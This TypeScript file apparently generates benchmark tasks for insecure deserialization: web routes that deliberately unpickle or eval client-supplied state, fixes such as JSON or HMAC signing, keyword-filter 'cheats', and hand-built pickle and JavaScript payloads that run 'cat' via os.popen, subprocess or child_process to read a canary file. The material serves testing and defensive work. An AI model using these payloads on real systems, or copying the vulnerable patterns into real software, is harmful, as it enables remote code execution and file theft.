/** Deserialization (CWE-502): a state that the site has packed into a text comes back as any text. */
import type { Check, Request } from "../../../core/index.ts";
import { check, contains, status } from "../../webapps/blocks.ts";
import type { Ctx } from "../ctx.ts";
import { NOTHING, type Patches, type WeakPart } from "../part.ts";
import { get, shownAndHidden } from "../requests.ts";

/** `whole`: whatever comes is unpacked; `filtered`: with a list that lets too much through. */
export type DeserializeShape = "whole" | "filtered";

interface Names {
  readonly pack: string;
  readonly unpack: string;
  readonly state: string;
  /** The two values of a state. */
  readonly a: string;
  readonly b: string;
}

interface Source extends Patches {
  readonly imports: readonly string[];
  readonly logic: string;
  readonly makeBody: string;
  readonly body: string;
}

export function deserializePart(ctx: Ctx, shape: DeserializeShape): WeakPart {
  const [path, makePath, name, makeName] = [ctx.route(), ctx.route(), ctx.func(), ctx.func()];
  const names: Names = {
    pack: ctx.func(),
    unpack: ctx.func(),
    state: ctx.noun(),
    a: ctx.noun(),
    b: ctx.noun(),
  };
  const secret = `/srv/${ctx.noun()}/${ctx.noun()}.txt`;
  const python = ctx.language === "python";
  const source = (python ? pythonSource : javascriptSource)(shape, names);
  const open = (state: string): Request => get(path, { [names.state]: state });
  const make = (a: string, b: string): Request => get(makePath, { [names.a]: a, [names.b]: b });
  const returns = (a: string, b: string): Check => ({
    name: `brings ${a} and ${b} back`,
    steps: [
      { request: make(a, b), capture: { name: "state", match: "^(\\S+)" }, expect: [status(200)] },
      // The capture is percent-encoded where it stands in a path.
      {
        request: { ...open(""), path: `${path}?${names.state}={{capture:state}}` },
        expect: [status(200), contains(`"${a}"`), contains(`"${b}"`)],
      },
    ],
  });
  const words = Array.from({ length: 6 }, () => ctx.noun());
  const payloads = python ? pickles(shape, secret, names) : literals(shape, secret, names);
  const attacks = payloads.map(([what, bytes]): Check =>
    check(what, open(base64(bytes)), contains("{{canary:key}}")),
  );
  return {
    ...NOTHING,
    type: "deserialization",
    cwe: "CWE-502",
    imports: source.imports,
    logic: source.logic,
    module: ctx.module(),
    exports: [names.pack, names.unpack],
    routes: [
      { method: "GET", path, name, body: source.body },
      { method: "GET", path: makePath, name: makeName, body: source.makeBody },
    ],
    outside: { [secret]: "{{canary:key}}\n" },
    visible: [returns(words[0]!, words[1]!)],
    hidden: [
      returns(words[2]!, `${words[3]} & ${words[4]}`),
      returns(`the ${words[5]}'s`, words[0]!),
      returns("the last one", "12"),
      check("refuses what is no state", open("%%%"), status(400)),
      check("refuses what is cut short", open(words[1]!.slice(0, 3)), status(400)),
    ],
    benign: [open("nothing"), open("")],
    ...shownAndHidden(attacks),
    reference: source.reference,
    alternatives: source.alternatives,
    cheats: source.cheats,
    constant: `$text("${words[0]} ${words[1]}")`,
  };
}

/** With padding, which Python's decoder asks for. */
const base64 = (bytes: string): string =>
  Buffer.from(bytes, "latin1").toString("base64").replaceAll("+", "-").replaceAll("/", "_");

type Payloads = readonly (readonly [what: string, bytes: string])[];

/** Pickles, by hand in protocol 0 unless told: a state whose first value is what a call returns. */
function pickles(shape: DeserializeShape, secret: string, { a, b }: Names): Payloads {
  const value = (call: string): string => `(dV${a}\n${call}sV${b}\nV1\ns.`;
  const call = (module: string, name: string, argument: string): string =>
    `c${module}\n${name}\n(V${argument}\ntR`;
  const evaluate = (expression: string): string => value(call("builtins", "eval", expression));
  const open = `open('${secret}').read()`;
  const short = (text: string): string => `\x8c${String.fromCharCode(text.length)}${text}`;
  const newer = `\x80\x04}(${short(a)}${short("builtins")}${short("eval")}\x93${short(open)}\x85R${short(b)}${short("1")}u.`;
  const inBuiltins: Payloads = [
    ["an expression that reads a file", evaluate(open)],
    ["an import", evaluate(`__import__('os').popen('cat ${secret}').read()`)],
    ["a list of lines", value(`cbuiltins\nlist\n(${call("builtins", "open", secret)}tR`)],
    ["a newer protocol", newer],
    ["a name put together", evaluate(`getattr(__import__('o'+'s'), 'popen')('cat ${secret}').read()`)],
    ["a set of lines, sorted", value(`cbuiltins\nsorted\n(${call("builtins", "open", secret)}tR`)],
    ["the largest line", value(`cbuiltins\nmax\n(${call("builtins", "open", secret)}tR`)],
  ];
  if (shape === "filtered") return inBuiltins;
  return [
    ...inBuiltins.slice(0, 4),
    ["a program's output", value(call("subprocess", "getoutput", `cat ${secret}`))],
    ["a module that reads lines", value(call("linecache", "getlines", secret))],
    ["a line by its number", value(`clinecache\ngetline\n(V${secret}\nI1\ntR`)],
    [
      "a module of paths",
      value(`cpathlib\nPath.read_text\n(${call("pathlib", "Path", secret)}tR`).replace(
        "cpathlib\nPath.read_text\n",
        `\x80\x04${short("pathlib")}${short("Path.read_text")}\x93`,
      ),
    ],
  ];
}

/** States as JavaScript with a call in the place of the first value; as a function in JSON when filtered. */
function literals(shape: DeserializeShape, secret: string, { a, b }: Names): Payloads {
  const fs = "process.getBuiltinModule('node:fs')";
  const read = `${fs}.readFileSync('${secret}', 'utf8')`;
  const split = `${secret.slice(0, 6)}'+'${secret.slice(6)}`;
  const expressions: Payloads = [
    ["a file read", read],
    ["a program's output", `'' + process.getBuiltinModule('node:child_process').execSync('cat ${secret}')`],
    ["the name put together", `${fs}.readFileSync('${split}', 'utf8')`],
    ["a function made and called", `(() => ${read})()`],
    ["by way of a constructor", `(0).constructor.constructor("return ${read}")()`],
    ["a choice", `1 ? ${read} : 0`],
    [
      "a program inside the program",
      `eval("pro" + "cess").getBuiltinModule('node:fs').readFileSync('${secret}', 'utf8')`,
    ],
  ];
  return expressions.map(([what, expression]) => [
    what,
    shape === "filtered"
      ? JSON.stringify({ [a]: `=> ${expression}`, [b]: "1" })
      : `{ ${a}: ${expression}, ${b}: "1" }`,
  ]);
}

function pythonSource(shape: DeserializeShape, { pack, unpack, state, a, b }: Names): Source {
  const filtered = shape === "filtered";
  const write = "return base64.urlsafe_b64encode(pickle.dumps(values)).decode()";
  const decoded = `base64.urlsafe_b64decode(${state})`;
  const load = filtered
    ? `return Careful(io.BytesIO(${decoded})).load()§`
    : `return pickle.loads(${decoded})§`;
  const find = `if module == "builtins":§\n            return super().find_class(module, name)\n        raise pickle.UnpicklingError(module)`;
  const careful = filtered
    ? `class Careful(pickle.Unpickler):
    """Finds nothing but what is built in."""

    def find_class(self, module, name):
        ${find}


`
    : "";
  const none =
    "class Plain(pickle.Unpickler):\n    def find_class(self, module, name):\n        raise pickle.UnpicklingError(name)\n\n\n";
  const json = {
    swaps: [
      [write, "return base64.urlsafe_b64encode(json.dumps(values).encode()).decode()"],
      [load, `return json.loads(${decoded})`],
    ],
    imports: ["import json"],
  } as const;
  const nothing = { swaps: [[find, "raise pickle.UnpicklingError(name)"]] } as const;
  const words = (condition: string) =>
    ({ swaps: [[load, `if ${condition}:\n        raise ValueError("no state")\n    ${load}`]] }) as const;
  return {
    imports: ["import base64", "import pickle", ...(filtered ? ["import io"] : [])],
    logic: `${careful}def ${pack}(values):
    ${write}


def ${unpack}(${state}):
    ${load}`,
    makeBody: `$text(${pack}({"${a}": $query("${a}", ""), "${b}": $query("${b}", "")}))`,
    body: `try:
    values = ${unpack}($query("${state}", ""))
    shown = {"${a}": values["${a}"], "${b}": values["${b}"]}
except Exception:
    $status(400, "no such ${state}")
$json(shown)`,
    reference: filtered ? nothing : json,
    alternatives: {
      [filtered ? "json" : "nothing-found"]: filtered
        ? json
        : {
            swaps: [
              [`def ${unpack}(`, `${none}def ${unpack}(`],
              [load, `return Plain(io.BytesIO(${decoded})).load()`],
            ],
            imports: ["import io"],
          },
      signed: {
        swaps: [
          [`def ${pack}(values):`, `KEY = secrets.token_bytes(32)\n\n\ndef ${pack}(values):`],
          [
            write,
            'data = pickle.dumps(values)\n    return base64.urlsafe_b64encode(hmac.digest(KEY, data, "sha256") + data).decode()',
          ],
          [
            load,
            `data = ${decoded}\n    if not hmac.compare_digest(data[:32], hmac.digest(KEY, data[32:], "sha256")):\n        raise ValueError("not ours")\n    return ${filtered ? "Careful(io.BytesIO(data[32:])).load()" : "pickle.loads(data[32:])"}`,
          ],
        ],
        imports: ["import hmac", "import secrets"],
      },
      "written-as-a-query": {
        swaps: [
          [write, "return base64.urlsafe_b64encode(urlencode(values).encode()).decode()"],
          [load, `return dict(parse_qsl(${decoded}.decode(), keep_blank_values=True))`],
        ],
        imports: ["from urllib.parse import parse_qsl, urlencode"],
      },
    },
    cheats: {
      "no-evaluation": words(`b"eval" in ${decoded}`),
      "no-programs": words(`b"os" in ${decoded} or b"subprocess" in ${decoded}`),
      "old-protocols-refused": words(`not ${decoded}.startswith(b"\\x80")`),
      "looked-at-afterwards": {
        swaps: [
          [
            load,
            `${load.replace("return", "values =")}\n    if not isinstance(values, dict):\n        raise ValueError("no state")\n    return values`,
          ],
        ],
      },
    },
  };
}

function javascriptSource(shape: DeserializeShape, { pack, unpack, state, a, b }: Names): Source {
  const write = 'return Buffer.from(JSON.stringify(values)).toString("base64url");';
  const decoded = `Buffer.from(${state}, "base64url").toString()`;
  const call = /^=> /;
  const load =
    shape === "filtered"
      ? `const revive = (_, value) => (${call}.test(value) ? eval(String(value).slice(3)) : value);§\n  return JSON.parse(${decoded}, revive);§`
      : `return eval(\`(\${${decoded}})\`);§`;
  const plain = `return JSON.parse(${decoded});`;
  const words = (condition: string) =>
    ({ swaps: [[load, `if (${condition}) throw new Error("no state");\n  ${load}`]] }) as const;
  return {
    imports: [],
    logic: `function ${pack}(values) {
  ${write}
}

function ${unpack}(${state}) {
  ${load}
}`,
    makeBody: `$text(${pack}({ ${a}: $query("${a}", ""), ${b}: $query("${b}", "") }))`,
    body: `let shown;
try {
  const { ${a}, ${b} } = ${unpack}($query("${state}", ""));
  shown = { ${a}, ${b} };
} catch {
  $status(400, "no such ${state}")
}
$json(shown)`,
    reference: { swaps: [[load, plain]] },
    alternatives: {
      signed: {
        swaps: [
          [
            `function ${pack}(values) {`,
            `const KEY = randomBytes(32);\nconst sign = (data) => createHmac("sha256", KEY).update(data).digest("hex");\n\nfunction ${pack}(values) {`,
          ],
          [
            write,
            `const data = Buffer.from(JSON.stringify(values)).toString("base64url");\n  return \`\${data}.\${sign(data)}\`;`,
          ],
          [
            load,
            `const [data, signature] = ${state}.split(".");\n  if (signature !== sign(data)) throw new Error("not ours");\n  return JSON.parse(Buffer.from(data, "base64url").toString());`,
          ],
        ],
        imports: ['const { createHmac, randomBytes } = require("node:crypto");'],
      },
      "written-as-a-query": {
        swaps: [
          [write, 'return Buffer.from(String(new URLSearchParams(values))).toString("base64url");'],
          [
            load,
            `const values = Object.fromEntries(new URLSearchParams(${decoded}));\n  if (values.${a} === undefined) throw new Error("no state");\n  return values;`,
          ],
        ],
      },
      "text-values-only": {
        swaps: [
          [
            load,
            `const { ${a}, ${b} } = JSON.parse(${decoded});\n  return { ${a}: String(${a}), ${b}: String(${b}) };`,
          ],
        ],
      },
    },
    cheats: {
      "no-files": words(`${decoded}.includes("readFileSync('/srv")`),
      "no-programs": words(`${decoded}.includes("child_process")`),
      "no-arrows": words(`${decoded}.includes("=>  ") || ${decoded}.includes("()")`),
      "looked-at-afterwards": {
        swaps: [
          [
            load,
            `${load.replace(/return (.*)/, "const values = $1")}\n  if (typeof values !== "object") throw new Error("no state");\n  return values;`,
          ],
        ],
      },
    },
  };
}
